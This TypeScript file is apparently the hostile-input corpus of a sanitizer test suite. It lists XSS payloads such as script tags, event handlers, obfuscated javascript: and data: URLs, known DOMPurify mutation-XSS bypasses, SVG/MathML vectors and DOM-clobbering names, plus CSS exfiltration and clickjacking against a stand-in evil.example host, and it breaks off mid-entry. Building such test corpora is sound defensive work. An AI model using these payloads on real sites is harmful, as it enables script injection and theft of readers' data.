/**
 * The hostile-input corpus: markup and URLs that try to run script, keep
 * something dangerous in the DOM, load outside resources through CSS or
 * clobber document and window properties. Every payload that could run calls
 * the sentinel `__folioPwned('<id>')` (installed by the tests, see
 * hostile-checks.ts), so a payload that survives and runs names itself.
 *
 * Two kinds of entries:
 * - `markup`: an HTML string, for `<folio-article>.html` and, as plain text,
 *   for every text field (a headline, a block's text, a post's title…),
 *   where it must show as the characters it is.
 * - `url`: a value for every URL field (links, images, citations, feeds,
 *   actions), and for `href`/`src` attributes inside `html`.
 *
 * `live` marks a payload that runs when written into the page as it is: the
 * control test (hostile-corpus.test.ts) proves it does, so the sentinel's
 * silence elsewhere means a protection worked, not that the payload was a dud.
 * For `url` entries `live` means the browser reads the value as a
 * javascript:, data: or vbscript: URL.
 */

export type HostileCategory =
  'script' | 'event-handler' | 'url-scheme' | 'mutation-xss' | 'svg-mathml' | 'css' | 'tracking' | 'dom-clobbering';

export interface HostileEntry {
  id: string;
  category: HostileCategory;
  kind: 'markup' | 'url';
  /** What it tries. */
  note: string;
  /** The payload. */
  value: string;
  /** Runs the sentinel (markup) or is read as a script/data URL (url) when used unprotected; the control test checks it. */
  live?: boolean;
  /**
   * Runs the sentinel when it is the markup of a page the browser parses
   * (autofocus, a parser-built SVG's onload, body onload), which the control
   * test shows in a frame of its own. (Autofocus works once per tab, so only
   * one autofocus payload carries the flag.)
   */
  liveInFrame?: boolean;
  /** A URL that is only read as javascript: once the HTML parser decoded its entities (inside `html`). */
  liveInMarkup?: boolean;
  /**
   * The page's own HTML parser makes nothing dangerous of it as written: it
   * attacks what a sanitizer or a re-serialisation does with it (mutation XSS,
   * string-stripping filters), or a parser quirk (a second <body>).
   */
  inertAsParsed?: boolean;
  /**
   * Markup that, by design of the HTML parser, leaves an element open that
   * swallows what follows it: an unclosed `<textarea>` or attribute turns it
   * into text, an unclosed `<math>`, `<noscript>` or `<select>` holds it, and
   * the sanitizer drops such an element with everything inside. Only the
   * safe markup before it must survive.
   */
  swallowsFollowing?: boolean;
  /** The `name`/`id` values it tries to clobber on document or window. */
  clobbers?: string[];
}

/** The sentinel call for an entry, as script source. */
const run = (id: string) => `__folioPwned('${id}')`;
/** From inside a frame the sentinel is the parent's. */
const runParent = (id: string) => `parent.__folioPwned('${id}')`;

type Spec = Omit<HostileEntry, 'value' | 'kind' | 'category'> & { value: (call: string, id: string) => string };

const markup = (category: HostileCategory, entries: Spec[]): HostileEntry[] =>
  entries.map((e) => ({ ...e, category, kind: 'markup' as const, value: e.value(run(e.id), e.id) }));

const urls = (category: HostileCategory, entries: Spec[]): HostileEntry[] =>
  entries.map((e) => ({ ...e, category, kind: 'url' as const, value: e.value(run(e.id), e.id) }));

// A keyframes rule the tests install, so that animation events really fire.
export const HOSTILE_KEYFRAMES = 'folio-hostile-kf';

const SCRIPT = markup('script', [
  { id: 'script-inline', liveInFrame: true, note: 'a plain <script>', value: (c) => `<script>${c}</script>` },
  {
    id: 'script-src-data',
    liveInFrame: true,
    note: '<script src> with a data: URL',
    value: (c) => `<script src="data:text/javascript,${encodeURIComponent(c)}"></script>`,
  },
  { id: 'script-uppercase', liveInFrame: true, note: 'upper-case tag name', value: (c) => `<SCRIPT>${c}</SCRIPT>` },
  {
    id: 'script-nested-split',
    note: 'a tag split so that a filter removing the inner one joins the outer',
    inertAsParsed: true,
    value: (c) => `<scr<script>x</script>ipt>${c}</scr<script>x</script>ipt>`,
  },
  {
    id: 'script-module',
    note: 'a module script with an odd type spelling',
    value: (c) => `<script type=" MODULE ">${c}</script><script type="text/javascript;version=1.8">${c}</script>`,
  },
  {
    id: 'script-svg',
    liveInFrame: true,
    note: '<script> inside SVG',
    value: (c) => `<svg><script>${c}</script></svg>`,
  },
  {
    id: 'script-svg-href',
    liveInFrame: true,
    note: 'SVG <script href> with a data: URL',
    value: (c) => `<svg><script href="data:text/javascript,${encodeURIComponent(c)}"></script></svg>`,
  },
  {
    id: 'script-iframe-srcdoc',
    note: 'an <iframe srcdoc> whose document runs script',
    live: true,
    value: (_c, id) => `<iframe srcdoc="<script>${runParent(id)}</script>"></iframe>`,
  },
  {
    id: 'script-iframe-js',
    note: 'an <iframe src="javascript:…">',
    live: true,
    value: (_c, id) => `<iframe src="javascript:${runParent(id)}"></iframe>`,
  },
  {
    id: 'script-object-data',
    note: '<object data> with an HTML data: URL',
    value: (_c, id) => `<object data="data:text/html,<script>${runParent(id)}</script>"></object>`,
  },
  { id: 'script-embed-js', note: '<embed src="javascript:…">', value: (c) => `<embed src="javascript:${c}">` },
  {
    id: 'script-base-hijack',
    note: '<base> that redirects every relative URL',
    value: () => `<base href="https://evil.example/">`,
  },
  {
    id: 'script-meta-refresh',
    note: '<meta> refresh to a javascript: URL',
    value: (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
  },
  {
    id: 'script-link-import',
    note: '<link> to an outside stylesheet or import',
    value: () =>
      `<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="https://evil.example/x.html">`,
  },
  {
    id: 'script-form-action',
    note: 'a form posting to a javascript: action',
    value: (c) => `<form action="javascript:${c}"><input type="submit" value="go"></form>`,
  },
  {
    id: 'script-button-formaction',
    note: 'a button with a javascript: formaction',
    value: (c) => `<form><button formaction="javascript:${c}">go</button></form>`,
  },
  {
    id: 'script-polyglot',
    liveInFrame: true,
    note: "0xSobky's polyglot, which breaks out of most contexts",
    value: (_c, id) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__folioPwned('${id}')//>\\x3e`,
  },
  {
    id: 'script-template-angular',
    note: 'AngularJS/Vue template expression, run by a framework that compiles the page',
    inertAsParsed: true,
    value: (_c, id) => `{{constructor.constructor("__folioPwned('${id}')")()}}`,
  },
  {
    id: 'script-template-literal',
    note: 'a JavaScript template literal, harmful if data is ever evaluated as one',
    inertAsParsed: true,
    value: (c) => `\${${c}}\`+\`\${${c}}`,
  },
  {
    id: 'script-placeholders',
    note: 'our own {placeholders} and String.replace patterns ($&, $1, $\`) inside data',
    inertAsParsed: true,
    value: (c) => `{email}{report}{license}{code}{0} %s %d $& $1 $\` $' <b>${c}</b>`,
  },
  {
    id: 'script-isindex-action',
    note: 'legacy isindex/action',
    value: (c) => `<isindex type="image" src="x" onerror="${c}" action="javascript:${c}">`,
  },
]);

const HANDLERS = markup('event-handler', [
  {
    id: 'on-img-onerror',
    note: 'img that fails to load',
    live: true,
    value: (c) => `<img src="/no-such-image.png" onerror="${c}" alt="">`,
  },
  {
    id: 'on-img-onerror-unquoted',
    note: 'unquoted handler, slash separators',
    live: true,
    value: (c) => `<img/src="x"/onerror=${c}>`,
  },
  {
    id: 'on-img-onerror-case',
    note: 'mixed-case attribute name',
    live: true,
    value: (c) => `<img src=x OnErRoR="${c}">`,
  },
  {
    id: 'on-img-onerror-spaces',
    note: 'spaces and a newline around "="',
    live: true,
    value: (c) => `<img src=x onerror \n = \n "${c}">`,
  },
  {
    id: 'on-img-onerror-entities',
    note: 'handler body written with entities',
    live: true,
    value: (_c, id) => `<img src=x onerror="&#95;&#95;folioPwned('${id}')">`,
  },
  { id: 'on-img-src-empty', note: 'onerror with an empty src', live: true, value: (c) => `<img src onerror="${c}">` },
  {
    id: 'on-svg-onload',
    liveInFrame: true,
    note: 'SVG root onload (fires when the page parser builds it)',
    value: (c) => `<svg onload="${c}"><circle r="1"/></svg>`,
  },
  {
    id: 'on-body-onload',
    liveInFrame: true,
    note: "a second <body> with onload (its attributes go to the parsed document's body)",
    inertAsParsed: true,
    value: (c) => `<body onload="${c}">`,
  },
  {
    id: 'on-input-autofocus',
    liveInFrame: true,
    note: 'onfocus + autofocus on an input',
    value: (c) => `<input autofocus onfocus="${c}">`,
  },
  {
    id: 'on-div-autofocus',
    note: 'onfocus + autofocus + tabindex on a div',
    value: (c) => `<div tabindex="0" autofocus onfocus="${c}">focus</div>`,
  },
  {
    id: 'on-select-autofocus',
    note: 'onfocus + autofocus on a select',
    value: (c) => `<select autofocus onfocus="${c}"><option>x</option></select>`,
  },
  {
    id: 'on-textarea-autofocus',
    note: 'onfocus + autofocus on a textarea',
    value: (c) => `<textarea autofocus onfocus="${c}"></textarea>`,
  },
  {
    id: 'on-animationstart',
    note: 'onanimationstart with an inline animation',
    live: true,
    value: (c) => `<p style="animation: ${HOSTILE_KEYFRAMES} 1ms" onanimationstart="${c}">animated</p>`,
  },
  {
    id: 'on-animationend',
    note: 'onanimationend with an inline animation',
    live: true,
    value: (c) => `<b style="animation: ${HOSTILE_KEYFRAMES} 1ms" onanimationend="${c}">animated</b>`,
  },
  {
    id: 'on-transitionrun',
    note: 'ontransitionrun',
    value: (c) => `<p style="transition: color 1ms" ontransitionrun="${c}" ontransitionend="${c}">t</p>`,
  },
  {
    id: 'on-details-toggle',
    note: 'ontoggle on an open <details>',
    live: true,
    value: (c) => `<details open ontoggle="${c}"><summary>s</summary>d</details>`,
  },
  {
    id: 'on-video-source',
    note: '<video><source onerror>',
    live: true,
    value: (c) => `<video><source src="/no-such-video.mp4" onerror="${c}"></video>`,
  },
  {
    id: 'on-audio-onerror',
    note: '<audio src onerror>',
    live: true,
    value: (c) => `<audio src="/no-such-audio.mp3" onerror="${c}"></audio>`,
  },
  {
    id: 'on-video-poster',
    note: 'a video poster with a javascript: URL and onerror',
    value: (c) => `<video poster="javascript:${c}" src="x" onerror="${c}"></video>`,
  },
  {
    id: 'on-object-onerror',
    note: '<object data onerror>',
    value: (c) => `<object data="/no-such-object" onerror="${c}"></object>`,
  },
  {
    id: 'on-iframe-onload',
    note: 'iframe onload',
    live: true,
    value: (c) => `<iframe src="about:blank" onload="${c}"></iframe>`,
  },
  { id: 'on-style-onload', note: '<style onload>', live: true, value: (c) => `<style onload="${c}">b{}</style>` },
  {
    id: 'on-link-onload',
    note: '<link onload> with a data: stylesheet',
    value: (c) => `<link rel="stylesheet" href="data:text/css,b{}" onload="${c}">`,
  },
  { id: 'on-marquee-start', note: 'marquee onstart', value: (c) => `<marquee onstart="${c}">m</marquee>` },
  {
    id: 'on-allowed-tag',
    note: 'handlers on tags the sanitizer allows',
    value: (c) => `<p onclick="${c}" onmouseover="${c}" onpointerenter="${c}">hover</p>`,
  },
  {
    id: 'on-anchor',
    note: 'handlers on a link',
    value: (c) => `<a href="https://example.com/" onclick="${c}" onfocus="${c}">link</a>`,
  },
  {
    id: 'on-section-heading',
    note: 'handlers on our own <folio-section-heading>',
    value: (c) => `<folio-section-heading onclick="${c}" onmouseover="${c}">节</folio-section-heading>`,
  },
  {
    id: 'on-heading-child',
    note: 'a live payload inside a section heading (moved into its <hN>)',
    value: (c) => `<folio-section-heading level="3">标题<img src=x onerror="${c}"></folio-section-heading>`,
  },
  {
    id: 'on-dialog-open',
    note: '<dialog open> with handlers',
    value: (c) => `<dialog open onclose="${c}" oncancel="${c}">d</dialog>`,
  },
  {
    id: 'on-scroll',
    note: 'onscroll on a scrolled box',
    value: (c) => `<div style="overflow:auto;height:1px" onscroll="${c}"><br><br><br><br><span id="x">x</span></div>`,
  },
  {
    id: 'on-table-background',
    note: 'legacy background attribute with a javascript: URL',
    value: (c) => `<table background="javascript:${c}"><tr><td background="javascript:${c}">t</td></tr></table>`,
  },
  {
    id: 'on-data-attribute',
    note: "data-* and aria-* attributes carrying script for a site's own code to pick up",
    value: (c) => `<p data-onload="${c}" data-bind="${c}" aria-label="x">d</p>`,
  },
]);

const URL_SCHEMES = urls('url-scheme', [
  { id: 'url-js', note: 'javascript:', live: true, value: (c) => `javascript:${c}` },
  { id: 'url-js-upper', note: 'upper case', live: true, value: (c) => `JAVASCRIPT:${c}` },
  { id: 'url-js-mixed', note: 'mixed case', live: true, value: (c) => `JaVaScRiPt:${c}` },
  { id: 'url-js-space', note: 'leading spaces', live: true, value: (c) => `   javascript:${c}` },
  { id: 'url-js-tab', note: 'tabs inside the scheme', live: true, value: (c) => `java\tscr\tipt:${c}` },
  { id: 'url-js-newline', note: 'a newline inside the scheme', live: true, value: (c) => `java\nscript:${c}` },
  { id: 'url-js-cr', note: 'a carriage return inside the scheme', live: true, value: (c) => `javas\rcript:${c}` },
  { id: 'url-js-c0', note: 'a leading C0 control (U+0001)', live: true, value: (c) => `\u0001javascript:${c}` },
  {
    id: 'url-js-formfeed',
    note: 'a leading form feed and trailing controls',
    live: true,
    value: (c) => `\fjavascript:${c}\u0000`,
  },
  {
    id: 'url-js-entity-dec',
    liveInMarkup: true,
    note: 'decimal entities (decoded inside markup)',
    value: (c) => `&#106;&#97;vascript:${c}`,
  },
  {
    id: 'url-js-entity-hex',
    liveInMarkup: true,
    note: 'hex entities with padding',
    value: (c) => `&#x0000006A;avascript:${c}`,
  },
  {
    id: 'url-js-entity-tab',
    liveInMarkup: true,
    note: 'an entity tab inside the scheme',
    value: (c) => `jav&#x09;ascript:${c}`,
  },
  {
    id: 'url-js-entity-newline',
    liveInMarkup: true,
    note: 'an entity newline and &colon;',
    value: (c) => `jav&#x0A;ascript&colon;${c}`,
  },
  {
    id: 'url-js-entity-colon',
    liveInMarkup: true,
    note: 'a named entity for the colon',
    value: (c) => `javascript&colon;${c}`,
  },
  {
    id: 'url-js-percent-body',
    note: 'percent-encoded body (decoded when run)',
    live: true,
    value: (_c, id) => `javascript:%5F%5FfolioPwned('${id}')`,
  },
  {
    id: 'url-js-percent-scheme',
    note: 'a percent-encoded scheme (a relative URL to a browser)',
    value: (c) => `%6Aavascript:${c}`,
  },
  {
    id: 'url-js-comment',
    note: 'javascript://comment with a newline',
    live: true,
    value: (_c, id) => `javascript://%0A__folioPwned('${id}')`,
  },
  { id: 'url-js-unicode-colon', note: 'a full-width colon', value: (c) => `javascript\uff1a${c}` },
  { id: 'url-js-nbsp', note: 'a leading no-break space', value: (c) => `\u00a0javascript:${c}` },
  {
    id: 'url-data-html',
    note: 'data: HTML document',
    live: true,
    value: (_c, id) => `data:text/html,<script>${runParent(id)}</script>`,
  },
  {
    id: 'url-data-html-b64',
    note: 'base64 data: HTML',
    live: true,
    value: (_c, id) => `data:text/html;base64,${btoa(`<script>${runParent(id)}</script>`)}`,
  },
  {
    id: 'url-data-upper',
    note: 'upper-case DATA:',
    live: true,
    value: (_c, id) => `DATA:text/html,<script>${runParent(id)}</script>`,
  },
  {
    id: 'url-data-svg',
    note: 'an SVG image with onload (harmless in <img>, not as a link)',
    live: true,
    value: (c) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${c}"/>`,
  },
  {
    id: 'url-data-svg-b64',
    note: 'base64 SVG image with a script',
    live: true,
    value: (c) =>
      `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><script>${c}</script></svg>`)}`,
  },
  { id: 'url-data-js', note: 'data: JavaScript', live: true, value: (c) => `data:application/javascript,${c}` },
  {
    id: 'url-data-space',
    note: 'data: with leading spaces and mixed case',
    live: true,
    value: (_c, id) => `  DaTa:text/html,<script>${runParent(id)}</script>`,
  },
  { id: 'url-vbscript', note: 'vbscript:', live: true, value: () => `vbscript:msgbox("pwned")` },
  { id: 'url-vbscript-case', note: 'VBScript: mixed case, tab', live: true, value: () => `VB\tScript:msgbox(1)` },
  { id: 'url-file', note: 'file: URL', value: () => `file:///etc/passwd` },
  { id: 'url-blob', note: 'blob: URL', value: () => `blob:https://evil.example/0b6c8a1e` },
  {
    id: 'url-unknown-scheme',
    note: 'an unknown scheme a plugin might handle',
    value: () => `ms-its:mhtml:file://c:/x.mht!https://evil.example/x.chm::/x.htm`,
  },
  {
    id: 'url-attr-breakout',
    note: 'quotes that end the attribute and add a handler',
    value: (c) => `https://example.com/" onmouseover="${c}" x="`,
  },
  {
    id: 'url-tag-breakout',
    note: 'quotes and brackets that end the tag',
    value: (c) => `https://example.com/#"><img src=x onerror="${c}">`,
  },
  {
    id: 'url-relative-breakout',
    note: 'a relative URL carrying a script tag',
    value: (c) => `/posts/1"><script>${c}</script>`,
  },
  {
    id: 'url-protocol-relative-js',
    note: 'backslashes and a javascript: inside the path',
    value: (c) => `\\\\evil.example\\javascript:${c}`,
  },
]);

const MXSS = markup('mutation-xss', [
  {
    id: 'mx-noscript-title',
    swallowsFollowing: true,
    note: 'noscript parsed differently with scripting on and off',
    value: (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>"></noscript>`,
  },
  {
    id: 'mx-math-mglyph-style',
    swallowsFollowing: true,
    note: 'DOMPurify 2.0.0 bypass: mglyph/style namespace confusion',
    value: (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`,
  },
  {
    id: 'mx-svg-p-style',
    note: 'DOMPurify 2.0.17 bypass: </p> leaving SVG',
    value: (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
  },
  {
    id: 'mx-nested-form',
    swallowsFollowing: true,
    note: 'DOMPurify 2.2.2 bypass: nested forms and mglyph',
    value: (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c}>`,
  },
  {
    id: 'mx-math-h1-mglyph',
    swallowsFollowing: true,
    note: 'DOMPurify 2.2.3 bypass: headings and mglyph in MathML',
    value: (c) =>
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${c}>"></style></h1>`,
  },
  {
    id: 'mx-svg-style-img',
    note: 'style inside SVG holding markup',
    value: (c) => `<svg><p><style><img src=x onerror=${c}></style></p></svg>`,
  },
  {
    id: 'mx-math-style',
    note: 'style inside MathML holding markup',
    value: (c) => `<math><style><img src=x onerror=${c}></style></math>`,
  },
  {
    id: 'mx-title',
    note: 'title rawtext that ends early on re-parse',
    value: (c) => `<title><img src=x title="</title><img src=x onerror=${c}>">`,
  },
  {
    id: 'mx-textarea',
    note: 'textarea rawtext that ends early on re-parse',
    swallowsFollowing: true,
    value: (c) => `<textarea><img title="</textarea><img src=x onerror=${c}>">`,
  },
  { id: 'mx-xmp', note: 'xmp rawtext', value: (c) => `<xmp><img title="</xmp><img src=x onerror=${c}>">` },
  {
    id: 'mx-iframe-text',
    note: 'iframe rawtext',
    value: (c) => `<iframe><img title="</iframe><img src=x onerror=${c}>"></iframe>`,
  },
  {
    id: 'mx-noembed',
    note: 'noembed rawtext',
    value: (c) => `<noembed><img title="</noembed><img src=x onerror=${c}>"></noembed>`,
  },
  {
    id: 'mx-noframes',
    note: 'noframes rawtext',
    value: (c) => `<noframes><img title="</noframes><img src=x onerror=${c}>"></noframes>`,
  },
  {
    id: 'mx-style-text',
    note: 'style rawtext holding a closing tag in a string',
    value: (c) => `<style>a{content:"</style><img src=x onerror=${c}>"}</style>`,
  },
  {
    id: 'mx-template',
    note: 'template content (inert until cloned)',
    value: (c) => `<template><img src=x onerror=${c}></template>`,
  },
  {
    id: 'mx-template-shadowroot',
    note: 'declarative shadow root holding a script',
    value: (c) => `<div><template shadowrootmode="open"><img src=x onerror=${c}></template></div>`,
  },
  { id: 'mx-comment', note: 'a comment that ends early', value: (c) => `<!--><img src=x onerror=${c}>-->` },
  { id: 'mx-comment-bang', note: 'a comment ended with --!>', value: (c) => `<!-- x --!><img src=x onerror=${c}>-->` },
  { id: 'mx-cdata', note: 'CDATA outside foreign content', value: (c) => `<![CDATA[><img src=x onerror=${c}>]]>` },
  { id: 'mx-cdata-svg', note: 'CDATA inside SVG', value: (c) => `<svg><![CDATA[><img src=x onerror=${c}>]]></svg>` },
  {
    id: 'mx-processing-instruction',
    note: 'an XML processing instruction',
    value: (c) => `<?xml-stylesheet ><img src=x onerror=${c}>?>`,
  },
  {
    id: 'mx-select-template',
    swallowsFollowing: true,
    note: 'select/template/style nesting',
    value: (c) =>
      `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${c}>">`,
  },
  {
    id: 'mx-table-foster',
    note: 'table foster-parenting moves markup out of the table',
    value: (c) => `<table><img src=x onerror=${c}><tr><td>cell</td></tr></table>`,
  },
  {
    id: 'mx-attribute-entities',
    inertAsParsed: true,
    note: 'escaped markup in an attribute, harmful if re-serialised wrongly',
    value: (c) => `<a title="&lt;img src=x onerror=${c}&gt;" href="#t">t</a>`,
  },
  {
    id: 'mx-backtick-attr',
    note: 'backtick-quoted attribute (old IE)',
    value: (c) => `<img src=\`x\` onerror=\`${c}\`>`,
  },
  {
    id: 'mx-null-byte',
    inertAsParsed: true,
    note: 'NUL bytes inside the tag name and handler',
    value: (c) => `<img src=x o\u0000nerror=${c}><scr\u0000ipt>${c}</scr\u0000ipt>`,
  },
  {
    id: 'mx-unclosed-attr',
    note: 'an unclosed quoted attribute that eats the next tag',
    inertAsParsed: true,
    value: (c) => `<img src=x alt="<img src=x onerror=${c}>`,
    swallowsFollowing: true,
  },
  {
    id: 'mx-form-attributes',
    note: 'a form whose input clobbers .attributes (sanitizer bypass)',
    value: (c) => `<form onmouseover="${c}"><input name="attributes"><input name="removeAttribute"></form>`,
  },
]);

const SVG_MATHML = markup('svg-mathml', [
  {
    id: 'svg-a-xlink',
    note: 'SVG link with xlink:href',
    value: (c) => `<svg><a xlink:href="javascript:${c}"><text x="1" y="10">x</text></a></svg>`,
  },
  {
    id: 'svg-a-href',
    note: 'SVG link with href',
    value: (c) => `<svg><a href="javascript:${c}"><text x="1" y="10">x</text></a></svg>`,
  },
  {
    id: 'svg-animate-href',
    note: "<animate> rewriting a link's href",
    value: (c) =>
      `<svg><a><animate attributeName="href" values="javascript:${c}"/><text x="1" y="10">x</text></a></svg>`,
  },
  {
    id: 'svg-set-href',
    note: '<set> rewriting xlink:href',
    value: (c) =>
      `<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${c}"/><text x="1" y="10">x</text></a></svg>`,
  },
  {
    id: 'svg-animate-onbegin',
    note: '<animate onbegin>, which runs without interaction',
    live: true,
    value: (c) => `<svg><animate onbegin="${c}" attributeName="x" dur="1ms"/></svg>`,
  },
  {
    id: 'svg-set-onbegin',
    note: '<set onbegin>',
    live: true,
    value: (c) => `<svg><set onbegin="${c}" attributeName="x" to="1"/></svg>`,
  },
  {
    id: 'svg-set-handler',
    note: '<set> writing an onmouseover attribute',
    value: (c) => `<svg><rect width="9" height="9"><set attributeName="onmouseover" to="${c}"/></rect></svg>`,
  },
  {
    id: 'svg-use-data',
    note: '<use> of an external data: document',
    value: (c) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${c}'/></svg>#x"/></svg>`,
  },
  {
    id: 'svg-image-onerror',
    note: 'SVG <image onerror>',
    live: true,
    value: (c) => `<svg><image href="/no-such.png" onerror="${c}"/></svg>`,
  },
  {
    id: 'svg-foreignobject',
    note: 'HTML inside <foreignObject>',
    live: true,
    value: (c) => `<svg><foreignObject width="9" height="9"><img src=x onerror="${c}"></foreignObject></svg>`,
  },
  {
    id: 'svg-foreignobject-iframe',
    note: 'an iframe inside <foreignObject>',
    value: (_c, id) =>
      `<svg><foreignObject><iframe srcdoc="<script>${runParent(id)}</script>"></iframe></foreignObject></svg>`,
  },
  {
    id: 'svg-desc-breakout',
    note: 'HTML integration point <desc>',
    live: true,
    value: (c) => `<svg><desc><img src=x onerror="${c}"></desc></svg>`,
  },
  {
    id: 'svg-handler-entity',
    liveInFrame: true,
    note: 'SVG onload written with entities',
    value: (_c, id) => `<svg onload="&#95;_folioPwned('${id}')"></svg>`,
  },
  {
    id: 'svg-style-import',
    note: 'SVG <style> with @import',
    value: () => `<svg><style>@import "https://evil.example/x.css";</style></svg>`,
  },
  {
    id: 'svg-feimage',
    note: 'feImage loading a javascript: URL',
    value: (c) => `<svg><filter><feImage href="javascript:${c}"/></filter></svg>`,
  },
  {
    id: 'svg-handler-on-g',
    note: 'handlers on plain SVG shapes',
    value: (c) => `<svg><g onmouseover="${c}"><circle r="9" onclick="${c}"/></g></svg>`,
  },
  { id: 'math-href', note: 'MathML href', value: (c) => `<math href="javascript:${c}"><mi>x</mi></math>` },
  {
    id: 'math-maction',
    note: 'maction with xlink:href',
    value: (c) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${c}">click<mtext>x</mtext></maction></math>`,
  },
  {
    id: 'math-annotation-xml',
    note: 'annotation-xml text/html integration point',
    live: true,
    value: (c) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${c}"></annotation-xml></math>`,
  },
  {
    id: 'math-mtext-breakout',
    note: 'mtext integration point',
    live: true,
    value: (c) => `<math><mtext><img src=x onerror="${c}"></mtext></math>`,
  },
]);

const CSS = markup('css', [
  {
    id: 'css-style-url',
    note: 'style attribute with url()',
    value: () => `<p style="background:url(https://evil.example/beacon.png)">bg</p>`,
  },
  {
    id: 'css-style-js-url',
    note: 'style attribute with url(javascript:)',
    value: (c) => `<p style="background-image:url('javascript:${c}')">bg</p>`,
  },
  {
    id: 'css-style-expression',
    note: 'IE expression() and behavior',
    value: (c) => `<p style="width:expression(${c});behavior:url(x.htc)">e</p>`,
  },
  {
    id: 'css-style-escaped',
    note: 'url written with CSS escapes',
    value: () => `<p style="background:\\75\\72\\6c(https://evil.example/e.png)">esc</p>`,
  },
  {
    id: 'css-style-element-import',
    note: '<style> with @import',
    value: () => `<style>@import url("https://evil.example/x.css");</style>`,
  },
  {
    id: 'css-style-element-url',
    note: '<style> with url() and a page-covering rule',
    value: () => `<style>body{background:url(https://evil.example/leak?c=1)}p{position:fixed;inset:0}</style>`,
  },
  {
    id: 'css-style-exfiltrate',
    note: 'attribute-selector exfiltration',
    value: () => `<style>input[value^="a"]{background:url(https://evil.example/a)}</style>`,
  },
  {
    id: 'css-style-overlay',
    note: 'a full-page overlay link (clickjacking)',
    value: () => `<a href="https://evil.example/" style="position:fixed;inset:0;z-index:99999">x</a>`,
  },
  // What the article's content policy lets through (some inline styles, media, players) tried at its edges.
  {
    id: 'css-style-allowed-property-url',
    note: 'an allowed property (background-color, color) carrying url(), var() or an escape',
    value: () =>
      `<p style="background-color:url(https://evil.example/t.gif);color:var(--x);color:\\72 ed">bg</p><p style="text-align:center;-moz-binding:url(x.xml#y)">mb</p>`,
  },
  {
    id: 'css-style-import-in-attribute',
    note: '@import and a comment hiding a declaration inside a style attribute',
    value: () =>
      `<p style="@import url(https://evil.example/x.css);color:red">im</p><p style="color:red/*;position:fixed;inset:0*/">cm</p>`,
  },
  {
    id: 'css-style-quoted-semicolon',
    note: 'a quoted value that hides ";position:fixed" from a naive split',
    value: () => `<p style="font-family:'a;position:fixed;inset:0;z-index:9';color:red">q</p>`,
  },
  {
    id: 'css-style-sizes-on-text',
    note: 'width, height and float (allowed on media) on a paragraph, to cover the page',
    value: () => `<p style="width:100vw;height:100vh;float:left">wf</p>`,
  },
]);

const MEDIA_AND_EMBEDS = markup('event-handler', [
  {
    id: 'media-video-onerror',
    note: '<video onerror> and <audio onloadstart>',
    value: (c) =>
      `<video src="/no-such.mp4" onerror="${c}"></video><audio src="/no-such.mp3" onloadstart="${c}"></audio>`,
  },
  {
    id: 'media-source-javascript',
    note: '<source src=javascript:> and a javascript: poster',
    value: (c) => `<video poster="javascript:${c}"><source src="javascript:${c}" type="video/mp4"></video>`,
  },
  {
    id: 'srcset-javascript-after-safe',
    note: 'a srcset whose first candidate is safe and second is javascript:',
    value: (c) => `<img src="/ok.png" srcset="/ok.png 1x, javascript:${c} 2x" alt="s">`,
  },
  {
    id: 'srcset-svg-data',
    note: 'data:image/svg+xml in srcset, img src and a picture source',
    value: (c) =>
      `<picture><source srcset="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/> 1x"><img src="data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${c}'/%3E" srcset="/ok.png 1x, data:image/svg+xml,<svg onload=${c}> 2x" alt="svg"></picture>`,
  },
  {
    id: 'iframe-other-host',
    note: 'an iframe from a host that is not allowed, and one with srcdoc',
    value: (c) =>
      `<iframe src="https://evil.example/frame" name="top"></iframe><iframe srcdoc="<script>${runParent('iframe-other-host')}</script>"></iframe><iframe src="javascript:${c}"></iframe>`,
  },
]);

/** Nothing to run: what would track the reader or play without asking, which the article's policy removes. */
const TRACKING = markup('tracking', [
  {
    id: 'media-track-other-origin',
    note: '<track src> to another origin (a tracker that learns who watches)',
    value: () => `<video src="/v.mp4"><track src="https://tracker.example/subs.vtt" kind="subtitles" default></video>`,
  },
  {
    id: 'media-autoplay-sound',
    note: 'autoplay with sound',
    value: () => `<video src="/v.mp4" autoplay></video><audio src="/a.mp3" autoplay loop></audio>`,
  },
  {
    id: 'iframe-allowed-host-unsandboxed',
    note: 'a player from an allowed host asking for more than the sandbox gives',
    value: () =>
      `<iframe src="https://player.vimeo.com/video/1" sandbox="allow-scripts allow-top-navigation allow-forms" srcdoc="<p>x</p>" allow="camera; microphone"></iframe>`,
  },
  {
    id: 'iframe-http-player',
    note: 'an allowed host over http, and a data: frame',
    value: () =>
      `<iframe src="http://player.vimeo.com/video/1"></iframe><iframe src="data:text/html,<p>x</p>"></iframe>`,
  },
]);

/** Names whose document or window property a page's own code relies on. */
export const CLOBBER_NAMES = [
  'getElementById',
  'querySelector',
  'createElement',
  'cookie',
  'defaultView',
  'baseURI',
  'title',
  'body',
  'head',
  'documentElement',
  'currentScript',
  'activeElement',
  'forms',
  'images',
  'location',
  'adoptedStyleSheets',
  'customElements',
  'trustedTypes',
  'sessionStorage',
  'fetch',
  '__folioPwned',
  'litHtmlVersions',
  'litElementVersions',
  'reactiveElementVersions',
] as const;

const CLOBBERING = markup('dom-clobbering', [
  {
    id: 'clob-img-name',
    note: 'img name= on document methods',
    clobbers: ['getElementById', 'querySelector', 'createElement'],
    value: () =>
